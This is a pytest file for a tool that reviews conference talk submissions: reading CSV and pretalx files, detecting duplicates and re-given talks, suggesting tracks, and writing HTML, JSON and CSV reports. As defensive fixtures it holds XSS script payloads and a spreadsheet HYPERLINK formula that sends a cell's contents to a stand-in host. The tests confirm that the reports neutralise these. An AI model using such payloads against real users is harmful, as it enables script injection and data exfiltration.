"""Reviewing a call for papers (issue #15): reading submissions (CSV, pretalx
JSON), related past talks and re-given ones, duplicates within the batch,
the three report formats, and bad input."""

from __future__ import annotations

import csv
import json
from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import pytest
import scipy.sparse as sp

from text_similarity_model import DataError
from text_similarity_model.cli import main
from text_similarity_model.review.batch import review
from text_similarity_model.review.duplicates import same_talk_pairs
from text_similarity_model.review.submissions import read_submissions, submissions_from_records
from text_similarity_model.review.report import write_report

from tests.support.csv_files import write_csv

FIXTURES = Path(__file__).resolve().parent / "fixtures"
PRETALX = FIXTURES / "pretalx_submissions.json"


def _talk(sample_talks, index: int) -> dict:
    return {"title": sample_talks.title[index], "description": sample_talks.description[index]}


def _lightly_edited(talk: dict) -> dict:
    """The same talk sent again: a word of the title changed, a sentence added."""
    words = talk["title"].split()
    return {"title": " ".join(words[:-1] + [words[-1].upper() + "!"]),
            "description": talk["description"] + " Traga suas dúvidas."}


# -- reading ---------------------------------------------------------------------


def test_a_csv_is_read_with_its_ids_and_other_columns(tmp_path, sample_talks):
    path = write_csv(tmp_path / "cfp.csv", [
        {"id": "42", **_talk(sample_talks, 0), "speaker": "Ana", "track": "Python"},
        {"id": "", **_talk(sample_talks, 1), "speaker": "Bia", "track": "Web"},
        {"id": "x", "title": " ", "description": "", "speaker": "Caio", "track": ""},
    ])
    submissions = read_submissions(path)
    assert submissions.format == "CSV"
    # The id column's value, else the row number from 1; the other columns kept.
    assert [item.id for item in submissions.items] == ["42", 2]
    assert submissions.items[0].fields == {"speaker": "Ana", "track": "Python"}
    assert dict(submissions.skipped) == {"no text": 1}
    assert submissions.skipped_lines() == ["skipped 1 row: no text (row 3)"]


def test_a_csv_without_id_numbers_rows_and_one_with_code_uses_it(tmp_path, sample_talks):
    plain = write_csv(tmp_path / "plain.csv", [_talk(sample_talks, index) for index in range(3)])
    assert [item.id for item in read_submissions(plain).items] == [1, 2, 3]
    coded = write_csv(tmp_path / "coded.csv", [{"code": f"C{index}", **_talk(sample_talks, index)} for index in range(2)])
    assert [item.id for item in read_submissions(coded).items] == ["C0", "C1"]


def test_a_csv_row_with_more_fields_than_the_header_is_skipped_as_unreadable(tmp_path):
    path = tmp_path / "cfp.csv"
    path.write_text("title,description\nFlask em produção,Deploy com gunicorn\nUm, título, com vírgulas,sem aspas\n")
    submissions = read_submissions(path)
    assert [item.title for item in submissions.items] == ["Flask em produção"]
    assert dict(submissions.skipped) == {"unreadable": 1}


def test_a_csv_saved_with_a_byte_order_mark_is_read(tmp_path):
    path = tmp_path / "excel.csv"
    path.write_bytes("title,description\nFlask em produção,Deploy com gunicorn\n".encode("utf-8-sig"))
    assert [(item.title, item.description) for item in read_submissions(path).items] == [
        ("Flask em produção", "Deploy com gunicorn")]


def test_pretalx_s_saved_response_is_read_with_codes_and_abstract_and_description_joined():
    submissions = read_submissions(PRETALX)
    assert submissions.format.startswith("pretalx submissions JSON")
    raw = json.loads(PRETALX.read_text())["results"]
    assert [item.id for item in submissions.items] == [entry["code"] for entry in raw[:5]]
    first = submissions.items[0]
    assert first.description == f"{raw[0]['abstract']}\n\n{raw[0]['description']}"
    # pretalx's objects shown as people read them: speakers by name, i18n names in Portuguese.
    assert first.fields["speakers"] == "Pessoa 0"
    assert first.fields["submission_type"] == "Palestra"
    assert first.fields["track"] == "Python"
    assert "answers" not in first.fields and "slots" not in first.fields
    assert dict(submissions.skipped) == {"no text": 1}


def test_a_plain_list_of_pretalx_submissions_is_read_too(tmp_path):
    path = tmp_path / "list.json"
    path.write_text(json.dumps(json.loads(PRETALX.read_text())["results"]))
    submissions = read_submissions(path)
    assert submissions.format == "pretalx submissions JSON (a list of submissions)"
    assert len(submissions) == 5


# -- reviewing -------------------------------------------------------------------


def test_the_same_talk_sent_twice_is_a_duplicate_and_different_talks_are_not(trained_model, sample_talks):
    talk = _talk(sample_talks, 16)
    records = [{"id": "first", **talk}, {"id": "other", **_talk(sample_talks, 100)},
               {"id": "again", **_lightly_edited(talk)}, {"id": "third", **_talk(sample_talks, 150)}]
    result = review(records, trained_model, n_results=3)
    duplicates = {item["id"]: item["duplicates"] for item in result.json()["submissions"]}
    assert duplicates == {"first": ["again"], "other": [], "again": ["first"], "third": []}
    assert result.summary()["duplicate_groups"] == 1
    assert result.summary()["in_duplicate_groups"] == 2


def test_each_submission_gets_predict_s_answer(trained_model, sample_talks):
    query = {"title": "APIs com Flask", "description": "Servindo modelos de machine learning com Flask e Docker"}
    result = review([query], trained_model, n_results=4).json()
    assert result["model_version"] == trained_model.version
    assert result["submissions"][0]["related"] == trained_model.predict(query, 4)["predictions"]
    # JSON-able as it is: what an API endpoint answers.
    assert json.loads(json.dumps(result)) == result


def test_a_submission_that_is_a_past_talk_is_counted_as_already_given(trained_model, sample_talks):
    records = [_lightly_edited(_talk(sample_talks, 16)), {"title": "Astronomia amadora", "description": "Telescópios"}]
    result = review(records, trained_model).json()
    first, second = result["submissions"]
    assert first["related"][0]["index"] == 16 and first["related"][0]["same_talk"] is True
    assert not any(talk["same_talk"] for talk in second["related"])
    assert result["summary"]["already_given"] == 1


def test_the_within_batch_product_in_blocks_equals_the_rule_on_every_pair(trained_model, sample_talks):
    """Chunked ranking and a product of a few rows at a time give the pairs
    the rule gives on the whole (dense) matrices of cosines."""
    records = [_talk(sample_talks, index) for index in range(40)]
    records += [_lightly_edited(record) for record in records[:10]]
    chunked = review(records, trained_model, chunk_size=7, block_cells=64)
    whole = review(records, trained_model)
    assert (chunked.duplicates != whole.duplicates).nnz == 0
    titles, descriptions = _field_matrices(trained_model, records)
    rule = trained_model.repeats.same_talk((titles @ titles.T).toarray(), (descriptions @ descriptions.T).toarray())
    np.fill_diagonal(rule, False)
    assert np.array_equal(whole.duplicates.toarray(), rule)
    assert whole.duplicates.nnz >= 20  # each edited copy and its original, both ways


def _field_matrices(model, records):
    rows = [model.rank(record, 1).fields for record in records]
    n_terms = model.repeats.titles_.shape[1]

    def matrix(vectors):
        return sp.csr_matrix([[vector.get(term, 0.0) for term in range(n_terms)] for vector in vectors])

    return matrix([title for title, _ in rows]), matrix([description for _, description in rows])


def test_same_talk_pairs_of_an_empty_batch_is_empty(trained_model):
    empty = sp.csr_matrix((0, 5), dtype=np.float32)
    assert same_talk_pairs(empty, empty, trained_model.repeats).shape == (0, 0)


@pytest.mark.parametrize("thresholds", [(0.95, 0.95, 0.80), (0.5, 0.7, 0.4), (0.3, 0.2, 0.6), (0.9, 0.99, 0.85)])
def test_the_pruned_search_finds_every_pair_the_rule_flags_on_random_vectors(thresholds):
    """Prefix filtering leaves out only pairs that can't be flagged: on
    random rows, with terms common and rare, the pairs of the rule applied
    to every pair, whatever its thresholds."""
    from text_similarity_model.steps.same_talk import RepeatDetector

    rng = np.random.default_rng(7)
    detector = RepeatDetector(*thresholds)

    def rows(count: int, n_terms: int) -> sp.csr_matrix:
        # Zipf-like term frequencies; a third of the rows near-copies of others.
        dense = (rng.random((count, n_terms)) < 0.6 / np.arange(1, n_terms + 1) ** 0.5) * rng.random((count, n_terms))
        copies = rng.integers(0, count, count // 3)
        dense[: count // 3] = dense[copies] + 0.1 * rng.random((count // 3, n_terms)) * (dense[copies] > 0)
        norms = np.linalg.norm(dense, axis=1, keepdims=True)
        return sp.csr_matrix(np.divide(dense, norms, out=np.zeros_like(dense), where=norms > 0), dtype=np.float32)

    titles, descriptions = rows(300, 30), rows(300, 80)
    found = same_talk_pairs(titles, descriptions, detector, block_cells=3_000).toarray()
    rule = detector.same_talk((titles @ titles.T).toarray(), (descriptions @ descriptions.T).toarray())
    np.fill_diagonal(rule, False)
    # A pair sharing no term at all has both cosines 0: looked for only where the rule flags (0, 0).
    assert np.array_equal(found, rule & ((titles @ titles.T).toarray() + (descriptions @ descriptions.T).toarray() > 0))
    assert found.any()


@pytest.mark.real_corpus
@pytest.mark.slow
def test_the_pruned_search_on_the_real_corpus_equals_every_talk_against_every_other(real_model):
    detector = real_model.repeats
    found = same_talk_pairs(detector.titles_, detector.descriptions_, detector)
    first, other = sp.triu(found, k=1).nonzero()
    assert set(zip(first.tolist(), other.tolist())) == detector.corpus_pairs()


@pytest.mark.real_corpus
@pytest.mark.slow
def test_an_edited_copy_of_a_real_talk_is_flagged_already_given(real_model, tmp_path):
    model = real_model
    index = 1000
    talk = {"title": model.talk(index)["title"], "description": model.talk(index)["description"]}
    sentences = talk["description"].split(". ")
    edited = {"id": "edited", "title": talk["title"].lower(),
              "description": ". ".join(sentences[:-1] + ["Ao final, um exemplo completo em produção."])}
    new = {"id": "new", "title": "Jardinagem para desenvolvedores", "description": "Plantas no escritório."}
    result = review([edited, new], model)
    given = [talk for talk in result.json()["submissions"][0]["related"] if talk["same_talk"]]
    assert index in [talk["index"] for talk in given]
    assert result.summary()["already_given"] == 1
    path = tmp_path / "report.html"
    write_report(result, path)
    corpus_talk = model.talk(index)
    from text_similarity_model.names import city_name

    assert f"Já apresentada em TDC {city_name(corpus_talk['cidade'])} {corpus_talk['ano']}" in path.read_text()


# -- the command and its reports -------------------------------------------------


@pytest.fixture
def call_csv(tmp_path, sample_talks) -> Path:
    talk = _talk(sample_talks, 16)
    return write_csv(tmp_path / "cfp.csv", [
        {"id": "S1", **talk, "speaker": "Ana"},
        {"id": "S2", **_talk(sample_talks, 100), "speaker": "Bia"},
        {"id": "S3", **_lightly_edited(talk), "speaker": "Caio"},
        {"id": "<script>alert(1)</script>", "title": "<script>window.pwned=1</script> Kotlin & coroutines",
         "description": "Coroutines em Kotlin no Android <b>negrito</b>", "speaker": "<i>Dani</i>"},
        {"id": "", "title": "", "description": "", "speaker": ""},
    ])


def _review(capsys, *arguments) -> tuple[int, list[str], list[str]]:
    code = main(["review", *map(str, arguments)])
    out, err = capsys.readouterr()
    return code, out.splitlines(), err.splitlines()


def test_the_command_names_the_format_first_and_counts_what_it_skipped(capsys, call_csv, sample_model_path, tmp_path):
    code, out, err = _review(capsys, call_csv, sample_model_path, "-o", tmp_path / "r.json")
    assert code == 0, err
    assert out[0] == f"{call_csv}: CSV, 4 submissions"
    assert "skipped 1 row: no text (row 5)" in out
    assert any("duplicates within the batch: 1 groups" in line for line in out)
    # Nothing but the report: no progress bar off a terminal, no other file.
    assert err == []
    assert sorted(path.name for path in tmp_path.iterdir()) == ["cfp.csv", "r.json"]


def test_ids_given_to_two_submissions_are_warned_about(capsys, tmp_path, sample_talks, sample_model_path):
    path = write_csv(tmp_path / "cfp.csv", [{"id": "7", **_talk(sample_talks, 0)}, {"id": "7", **_talk(sample_talks, 1)}])
    code, out, _ = _review(capsys, path, sample_model_path, "-o", tmp_path / "r.json")
    assert code == 0
    assert "warning: 1 ids name more than one submission (e.g. '7')" in out[1]


def test_the_json_report_has_the_issue_s_shape(capsys, call_csv, sample_model_path, tmp_path):
    assert _review(capsys, call_csv, sample_model_path, "-o", tmp_path / "r.json", "-n", "2")[0] == 0
    report = json.loads((tmp_path / "r.json").read_text(encoding="utf-8"))
    assert set(report) == {"model_version", "summary", "submissions"}
    assert report["summary"]["submissions"] == 4 and report["summary"]["skipped"] == {"no text": 1}
    submissions = {item["id"]: item for item in report["submissions"]}
    assert submissions["S1"]["duplicates"] == ["S3"] and submissions["S3"]["duplicates"] == ["S1"]
    assert all(len(item["related"]) <= 2 for item in report["submissions"])
    related = submissions["S1"]["related"][0]
    assert {"title", "score", "index", "terms", "same_talk"} <= set(related)
    assert related["same_talk"] is True


def test_the_csv_report_has_a_row_per_submission_and_related_talk(capsys, call_csv, sample_model_path, tmp_path):
    assert _review(capsys, call_csv, sample_model_path, "-o", tmp_path / "r.csv", "-n", "3")[0] == 0
    with (tmp_path / "r.csv").open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert {"submission_id", "submission_title", "duplicates", "rank", "title", "score", "same_talk"} <= set(rows[0])
    by_submission = {}
    for row in rows:
        by_submission.setdefault(row["submission_id"], []).append(row)
    assert list(by_submission) == ["S1", "S2", "S3", "<script>alert(1)</script>"]
    assert [row["rank"] for row in by_submission["S1"]] == ["1", "2", "3"]
    assert by_submission["S1"][0]["duplicates"] == "S3"
    assert by_submission["S1"][0]["same_talk"] == "true"
    assert by_submission["S2"][0]["duplicates"] == ""


def test_text_a_spreadsheet_would_run_as_a_formula_is_written_as_text(capsys, tmp_path, sample_model_path):
    hostile = '=HYPERLINK("http://example.invalid/?x="&A1,"ver")'
    path = write_csv(tmp_path / "cfp.csv", [{"id": "@SUM(1+1)", "title": hostile, "description": "-2+3 Kotlin"},
                                             {"id": "ok", "title": "Kotlin - coroutines", "description": ""}])
    assert _review(capsys, path, sample_model_path, "-o", tmp_path / "r.csv", "-n", "1")[0] == 0
    with (tmp_path / "r.csv").open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert rows[0]["submission_id"] == "'@SUM(1+1)" and rows[0]["submission_title"] == "'" + hostile
    assert rows[1]["submission_id"] == "ok" and rows[1]["submission_title"] == "Kotlin - coroutines"  # only a first character
    assert not any(value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values())


class _Report(HTMLParser):
    """What a reader sees of the HTML report: the text of each submission's
    heading, and the scripts and links the file holds."""

    def __init__(self):
        super().__init__()
        self.headings, self.scripts, self.external = [], 0, []
        self._in_heading = False

    def handle_starttag(self, tag, attributes):
        attributes = dict(attributes)
        if tag == "script":
            self.scripts += 1
            if "src" in attributes:
                self.external.append(attributes["src"])
        if tag == "link":
            self.external.append(attributes.get("href"))
        if tag == "h2" and self._in_submission:
            self._in_heading = True
            self.headings.append("")

    _in_submission = False

    def handle_endtag(self, tag):
        if tag == "h2":
            self._in_heading = False

    def handle_data(self, data):
        if data.strip() == "Submissões":
            self._in_submission = True
        elif self._in_heading:
            self.headings[-1] += data


def test_the_html_report_is_self_contained_and_shows_submitted_markup_as_text(capsys, call_csv, sample_model_path,
                                                                              tmp_path):
    assert _review(capsys, call_csv, sample_model_path, "-o", tmp_path / "r.html")[0] == 0
    text = (tmp_path / "r.html").read_text(encoding="utf-8")
    report = _Report()
    report.feed(text)
    # Only the report's own script, nothing fetched.
    assert report.scripts == 1 and report.external == []
    assert "://" not in text.split("<main>")[0]  # no address in the head: styles and script inline
    assert report.headings[-1] == "#<script>alert(1)</script> <script>window.pwned=1</script> Kotlin & coroutines"
    assert "<b>negrito</b>" not in text and "&lt;b&gt;negrito&lt;/b&gt;" in text
    assert "Já apresentada em TDC" in text and "Duplicata de #S3" in text
    assert "grupos de duplicatas" in text and "<svg" in text


# -- suggested tracks --------------------------------------------------------------

TRACKED = [
    {"id": "py", "title": "Tipagem gradual em Python", "description": "type hints, mypy e pandas no Python 3",
     "track": "Segurança"},
    {"id": "sec", "title": "Segurança de APIs", "description": "OAuth, JWT, OWASP e ataques comuns a APIs web",
     "track": "SEGURANÇA"},
    {"id": "k8s", "title": "Kubernetes em produção", "description": "deploy de containers com Helm e CI/CD",
     "track": "trilha-devops"},
    {"id": "garden", "title": "Tipagem em Python", "description": "type hints no dia a dia", "track": "Jardinagem"},
    {"id": "free", "title": "Testes de carga", "description": "k6 e Locust", "track": ""},
]


def test_a_submission_whose_track_is_not_among_the_suggested_ones_is_flagged(trained_model):
    result = review(TRACKED, trained_model).json()
    submissions = {item["id"]: item for item in result["submissions"]}
    python = submissions["py"]
    assert [track["name"] for track in python["suggested_tracks"]][0] == "Python"
    assert len(python["suggested_tracks"]) == 3 and python["tracks_note"] is None
    assert python["track_check"] == {"track": "Segurança", "status": "differs",
                                     "message": "submetida em Segurança; parece Python"}
    # Compared by meaning: case and accents, and the corpus' trilha- prefix, don't matter.
    assert submissions["sec"]["track_check"]["status"] == "matches"
    assert submissions["k8s"]["track_check"]["status"] == "matches"
    # A track like no past one is said as such, not flagged; no track, nothing to check.
    assert submissions["garden"]["track_check"]["status"] == "unknown"
    assert "nenhuma trilha" in submissions["garden"]["track_check"]["message"]
    assert submissions["free"]["track_check"] is None and submissions["free"]["suggested_tracks"]
    assert result["summary"]["tracks_differ"] == 1 and result["summary"]["tracks_unknown"] == 1
    assert result["summary"]["tracks_not_comparable"] is None


def _pretalx_with_tracks(tmp_path: Path, tracks: list) -> Path:
    document = json.loads(PRETALX.read_text())
    for entry, track in zip(document["results"], tracks):
        entry["track"] = track
    path = tmp_path / "pretalx.json"
    path.write_text(json.dumps(document))
    return path


def test_pretalx_tracks_as_bare_ids_are_reported_not_comparable_once(capsys, tmp_path, sample_model_path):
    path = _pretalx_with_tracks(tmp_path, [3, 7, 3, 9, 3, 3])  # as the API gives them without ?expand=track
    code, out, err = _review(capsys, path, sample_model_path, "-o", tmp_path / "r.json")
    assert code == 0, err
    assert [line for line in out if "not compared" in line] == [
        "own tracks not compared: pretalx gave each track as its id: save the submissions with ?expand=track to "
        "compare them"]
    report = json.loads((tmp_path / "r.json").read_text())
    assert report["summary"]["tracks_not_comparable"] == "pretalx-ids" and report["summary"]["tracks_differ"] == 0
    assert {item["track_check"]["status"] for item in report["submissions"]} == {"not-comparable"}
    assert all(item["suggested_tracks"] for item in report["submissions"])  # suggested all the same


def test_pretalx_tracks_asked_with_expand_are_compared(capsys, tmp_path, sample_model_path):
    expanded = {"id": 3, "name": {"en": "Security", "pt-br": "Segurança"}, "color": "#000000"}
    path = _pretalx_with_tracks(tmp_path, [expanded] * 6)
    code, out, _ = _review(capsys, path, sample_model_path, "-o", tmp_path / "r.json")
    report = json.loads((tmp_path / "r.json").read_text())
    assert report["submissions"][0]["track_check"]["track"] == "Segurança"
    assert {item["track_check"]["status"] for item in report["submissions"]} <= {"matches", "differs"}
    assert report["summary"]["tracks_not_comparable"] is None
    assert any(line.startswith("own track not among the 3 suggested: ") for line in out)


def test_the_csv_report_has_the_suggestion_and_the_check(capsys, tmp_path, sample_model_path):
    path = write_csv(tmp_path / "cfp.csv", TRACKED)
    assert _review(capsys, path, sample_model_path, "-o", tmp_path / "r.csv", "-n", "1")[0] == 0
    with (tmp_path / "r.csv").open(newline="", encoding="utf-8") as handle:
        rows = {row["submission_id"]: row for row in csv.DictReader(handle)}
    assert rows["py"]["suggested_tracks"].startswith("Python (") and rows["py"]["track_check"] == "differs"
    assert rows["free"]["track_check"] == ""


# -- bad input -------------------------------------------------------------------


def _bad_inputs(tmp_path: Path, sample_talks) -> dict[str, tuple[Path, str]]:
    """Each bad input, and a word its message must have."""
    def write(name: str, content: bytes) -> Path:
        path = tmp_path / name
        path.write_bytes(content)
        return path

    return {
        "missing column": (write("no_description.csv", b"title,speaker\nFlask,Ana\n"), "'description'"),
        "not UTF-8": (write("latin1.csv", "title,description\nAção,Programação\n".encode("latin-1")), "UTF-8"),
        "empty": (write("empty.csv", b""), "empty"),
        "header only": (write("header.csv", b"title,description\n"), "no submissions"),
        "only empty rows": (write("blank.csv", b"title,description\n,\n  ,  \n"), "no submission has"),
        "JSON not pretalx's": (write("other.json", b'{"talks": [{"title": "x"}]}'), "pretalx"),
        "JSON list without submissions": (write("numbers.json", b"[1, 2, 3]"), "pretalx"),
        "broken JSON": (write("broken.json", b'{"results": [}'), "not valid JSON"),
        "no such file": (tmp_path / "missing.csv", "no such file"),
    }


BAD_INPUTS = ["missing column", "not UTF-8", "empty", "header only", "only empty rows", "JSON not pretalx's",
              "JSON list without submissions", "broken JSON", "no such file"]


@pytest.mark.parametrize("case", BAD_INPUTS)
def test_bad_input_is_one_line_exit_2_and_leaves_a_previous_report_intact(case, capsys, tmp_path, sample_talks,
                                                                          sample_model_path):
    path, word = _bad_inputs(tmp_path, sample_talks)[case]
    report = tmp_path / "report.html"
    report.write_text("the previous report")
    before = sorted(tmp_path.iterdir())
    code, out, err = _review(capsys, path, sample_model_path, "-o", report)
    assert code == 2
    assert len(err) == 1 and str(path) in err[0] and word in err[0], err
    assert report.read_text() == "the previous report"
    assert sorted(tmp_path.iterdir()) == before  # no temporary file left either


@pytest.mark.parametrize("name", ["report.txt", "report"])
def test_an_unknown_report_extension_is_refused_before_reading_anything(name, capsys, call_csv, sample_model_path,
                                                                        tmp_path):
    code, out, err = _review(capsys, call_csv, sample_model_path, "-o", tmp_path / name)
    assert code == 2 and out == []
    assert len(err) == 1 and name in err[0] and ".html, .json or .csv" in err[0]
    assert not (tmp_path / name).exists()


def test_a_report_in_a_missing_folder_is_refused_naming_the_fix(capsys, call_csv, sample_model_path, tmp_path):
    code, _, err = _review(capsys, call_csv, sample_model_path, "-o", tmp_path / "nowhere" / "r.html")
    assert code == 2 and len(err) == 1 and "mkdir -p" in err[0]


def test_records_that_are_not_mappings_or_have_non_text_fields_are_unreadable():
    submissions = submissions_from_records(["a title", {"title": 3, "description": "x"}, {"title": "ok"}])
    assert [item.title for item in submissions.items] == ["ok"]
    assert dict(submissions.skipped) == {"unreadable": 2}


def test_an_empty_file_message_names_the_file(tmp_path):
    path = tmp_path / "empty.json"
    path.write_text("   \n")
    with pytest.raises(DataError, match="empty.json: the file is empty"):
        read_submissions(path)


# -- the HTML report in a browser ------------------------------------------------


@pytest.mark.browser
def test_the_html_report_filters_and_sorts_in_chromium_offline(capsys, call_csv, sample_model_path, tmp_path):
    from tests.support.browser import chromium

    report = tmp_path / "r.html"
    assert _review(capsys, call_csv, sample_model_path, "-o", report)[0] == 0
    with chromium() as browser:
        page = browser.new_page()
        errors, requests = [], []
        page.on("pageerror", lambda error: errors.append(str(error)))
        page.on("console", lambda message: message.type == "error" and errors.append(message.text))
        page.on("request", lambda request: requests.append(request.url))
        page.goto(report.as_uri())
        assert page.text_content("#contagem") == "4 de 4 submissões"
        page.check("#filtro-duplicatas")
        assert page.text_content("#contagem") == "2 de 4 submissões"
        visible = page.locator(".submissao:visible .cabecalho h2")
        assert visible.all_text_contents() == [f"#S1 {_title_of(call_csv, 'S1')}", f"#S3 {_title_of(call_csv, 'S3')}"]
        page.uncheck("#filtro-duplicatas")
        page.fill("#filtro-texto", "COROUTINES")  # case and accents aside
        assert page.text_content("#contagem") == "1 de 4 submissões"
        # The submitted <script> is text on the page, never run.
        assert "<script>window.pwned=1</script>" in page.locator(".submissao:visible h2").text_content()
        assert page.evaluate("window.pwned") is None
        page.fill("#filtro-texto", "")
        page.select_option("#ordem", "menor")
        best = [float(value) for value in page.eval_on_selector_all(".submissao", "items => items.map(i => i.dataset.melhor)")]
        assert best == sorted(best) and best[0] < best[-1]
        page.select_option("#ordem", "entrada")
        assert page.locator(".submissao .id").first.text_content() == "#S1"
        assert errors == [] and requests == [report.as_uri()]


def _title_of(path: Path, identity: str) -> str:
    with path.open(newline="", encoding="utf-8") as handle:
        return next(row["title"] for row in csv.DictReader(handle) if row["id"] == identity)


@pytest.mark.browser
def test_the_html_report_shows_the_suggestion_and_filters_by_it_in_chromium(capsys, tmp_path, sample_model_path):
    from tests.support.browser import chromium

    path = write_csv(tmp_path / "cfp.csv", TRACKED)
    report = tmp_path / "r.html"
    assert _review(capsys, path, sample_model_path, "-o", report)[0] == 0
    with chromium() as browser:
        page = browser.new_page()
        errors = []
        page.on("pageerror", lambda error: errors.append(str(error)))
        page.goto(report.as_uri())
        assert page.text_content("#total-trilhas") == "1"
        assert page.locator(".sugestao").first.text_content().startswith("Trilha sugerida: Python (")
        page.check("#filtro-trilhas")
        assert page.text_content("#contagem") == "1 de 5 submissões"
        visible = page.locator(".submissao:visible")
        assert visible.locator(".cabecalho h2").all_text_contents() == ["#py Tipagem gradual em Python"]
        assert visible.locator(".marca.trilha").text_content() == "Submetida em Segurança; parece Python"
        page.uncheck("#filtro-trilhas")
        assert page.text_content("#contagem") == "5 de 5 submissões"
        assert errors == []
